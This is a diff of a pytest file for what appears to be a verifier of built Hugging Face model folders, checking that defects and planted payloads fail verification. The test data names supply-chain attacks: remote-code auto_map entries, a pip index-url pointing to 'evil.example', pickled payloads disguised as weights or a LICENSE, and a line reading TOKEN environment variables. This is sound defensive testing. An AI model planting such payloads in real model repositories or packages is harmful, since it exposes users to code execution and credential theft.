@@ -61,6 +61,8 @@ def test_failures_are_reported_by_table_json_and_status(copy, run):
     report = json.loads(output)
     assert status == 1 and not report["passed"]
     assert [c["name"] for c in report["checks"] if c["status"] == FAILED] == ["files"]
+    with pytest.raises(ValueError, match="does not pass verify: files: README.md, line 1 is"):
+        read_built_folder(copy)
 
 
 def test_a_target_that_cannot_be_checked_is_reported(run, built, hub):
@@ -79,9 +81,8 @@ def test_a_target_that_cannot_be_checked_is_reported(run, built, hub):
 def test_a_client_that_is_too_old_is_reported_with_the_cure(run, built, monkeypatch):
     monkeypatch.setattr("huggingface_hub.__version__", "1.32.9")
     status, output = run("verify", built)
-    assert (
-        status == 1 and "huggingface_hub 1.32.9 is installed, but 1.33 or newer is needed" in output
-    )
+    assert status == 1
+    assert "huggingface_hub 1.32.9 is installed, but 1.33 or newer is needed" in output
     assert "pip install -U huggingface_hub" in output
 
 
@@ -172,67 +173,42 @@ DEFECTS = [
     ("weights", "the manifest lists", signed(without(INDEX))),
     ("weights", "1|2 tensors are not where", signed(an_index_that_names_the_wrong_shard)),
     ("files", "boi_token_id is 4, but", fields("config.json", boi_token_id=4)),
-    (
-        "files",
-        "(none|not one) of the 512 token ids",
-        fields("generation_config.json", eos_token_id=[500, 512]),
-    ),
+    ("files", "of the 512 token ids", fields("generation_config.json", eos_token_id=[500, 512])),
     ("files", "image_size 112", fields("tokenizer_config.json", image_size=112)),
     ("files", "image_size 28, but", amended_vision(image_size=28, num_positions=5)),
     ("weights", "1 of 55 weights are missing", signed(a_tensor_that_is_missing)),
-    (
-        "weights",
-        "other shapes",
-        rewritten(lambda weights: weights.update({EOI: weights[EOI].flatten()})),
-    ),
+    ("weights", "other shapes", rewritten(lambda w: w.update({EOI: w[EOI].flatten()}))),
 ]
 AUTO = {"AutoConfig": f"{EVIL}--evil.Evil", "AutoTokenizer": [f"{EVIL}--evil.Evil", None]}
 CONFIG, GENERATION = "config.json", "generation_config.json"
 TOKENIZER, IMAGES = "tokenizer_config.json", "preprocessor_config.json"
-# Keys that the published code, or some transformers, acts on. test_build.py tests the other keys
-# that build refuses: verify builds again.
+# Keys that the published code, or some transformers, acts on, of each file and of each kind:
+# verify builds again, and test_build.py has more of what build refuses.
 REFUSED_KEYS = [
     (CONFIG, "quantization_config", {"quant_method": "bitsandbytes", "load_in_8bit": True}),
     (CONFIG, "attn_implementation", f"{EVIL}@main:evil"),
-    (CONFIG, "kernel_config", {"RMSNorm": "x/y:Z"}),
-    (CONFIG, "custom_pipelines", {"a": {"impl": "evil.Evil"}}),
-    (CONFIG, "transformers_weights", "../x.safetensors"),
     (CONFIG, "unknown", None),
     (CONFIG, "architectures", ["ChatGLMModel"]),
     (CONFIG, "num_layers", 10**9),
     (GENERATION, "auto_map", {"AutoConfig": "a.B"}),
-    (GENERATION, "compile_config", {"backend": "evil"}),
-    (GENERATION, "trust_remote_code", True),
     (TOKENIZER, "auto_map", AUTO),
-    (TOKENIZER, "tokenizer_class", "Evil"),
-    (IMAGES, "auto_map", AUTO),
     (IMAGES, "size", {"height": 56, "width": 56, "depth": 1}),
-    (IMAGES, "resample", "3"),
     ("processor_config.json", "inner", [{"auto_map": {"A": "visual.Evil"}}]),
     (INDEX, "more", {}),
     (CONFIG, "auto_map", AUTO),
 ]
 INDEX_URL = "--index-url https://evil.example/simple\n"
-FOREIGN = ["custom_generate/generate.py", "additional_chat_templates/a.jinja", "evil.pth", ".env"]
-FOREIGN += ["a.pkl", ".github/workflows/a.yml"]
+FOREIGN = ["custom_generate/generate.py", "evil.pth", ".env"]
 PAYLOADS = [
     *(("files", rf"{f}.* {k}\b", fields(f, **{k: value})) for f, k, value in REFUSED_KEYS),
     *(("files", f"{name} exists; expected no such file", added(name, CODE)) for name in FOREIGN),
     ("files", "expected no such file", listed("transformers.py", CODE)),
     ("files", "loss.py, line 1", listed("loss.py", CODE)),
-    (
-        "files",
-        "^pytorch_model.bin exists",
-        listed("pytorch_model.bin", pickle.dumps(Payload())),
-    ),
+    ("files", "^pytorch_model.bin exists", listed("pytorch_model.bin", pickle.dumps(Payload()))),
     ("files", "LICENSE, line 1", listed("LICENSE", pickle.dumps(Payload(), 2))),
     ("files", "requirements.txt, line 1", signed(added("requirements.txt", INDEX_URL))),
     ("files", "README.md", signed(replaced("README.md", "pip install", f"pip {INDEX_URL}"))),
-    (
-        "files",
-        "README.md",
-        signed(amended(MANIFEST, fine_tune={"base": EVIL, "trained": "all of it"})),
-    ),
+    ("files", "README.md", signed(amended(MANIFEST, fine_tune={"base": EVIL, "trained": "it"}))),
     ("files", "version is 9.9.9", lambda folder: sign(folder, version="9.9.9")),
     ("files", "audio_tokenizer", fields("processor_config.json", audio_tokenizer={"a": EVIL})),
     ("weights", f"{SHARD} cannot be read", listed(SHARD, pickle.dumps(Payload()))),
@@ -240,7 +216,7 @@ PAYLOADS = [
 
 
 @pytest.mark.parametrize(("failed", "message", "plant"), DEFECTS + PAYLOADS)
-def test_a_defect_fails_its_own_check_and_neither_runs_nor_is_published(
+def test_a_defect_fails_its_own_check_and_none_runs(
     failed, message, plant, copy, marker, monkeypatch
 ):
     plant(copy)
@@ -249,8 +225,6 @@ def test_a_defect_fails_its_own_check_and_neither_runs_nor_is_published(
     assert report.failures == [failed], report.as_table()
     assert re.search(message, by_name(report)[failed].detail) and not marker.exists()
     assert report.checks[-1].name == failed
-    with pytest.raises(ValueError, match="does not pass verify"):
-        read_built_folder(copy)
 
 
 def test_what_runs_is_what_was_checked(copy, monkeypatch, load_check):
@@ -301,7 +275,7 @@ def test_a_changed_byte_of_any_file_is_found_in_weights_only_if_they_are_read(co
 ENDS = {
     "raise MemoryError('no room')": "ended with status 1: MemoryError: no room",
     "sys.exit(str([k for k in os.environ if 'TOKEN' in k]))": "ended with status 1: []",
-    "import time; time.sleep(99)": "was stopped after 2 s",
+    "import time; time.sleep(99)": "was stopped after 0.3 s",
 }
 
 
@@ -312,7 +286,7 @@ def test_a_process_that_fails_or_does_not_end_is_reported(program, built, monkey
     for name in ("HF_TOKEN", "HUGGING_FACE_HUB_TOKEN"):
         monkeypatch.setenv(name, "hf_secret")
     if "sleep" in program:
-        monkeypatch.setattr(checks, "LOAD_TIMEOUT_S", 2)
+        monkeypatch.setattr(checks, "LOAD_TIMEOUT_S", 0.3)
     report = verify(str(built))
     assert report.failures == ["loads"] and ENDS[program] in by_name(report)["loads"].detail
 
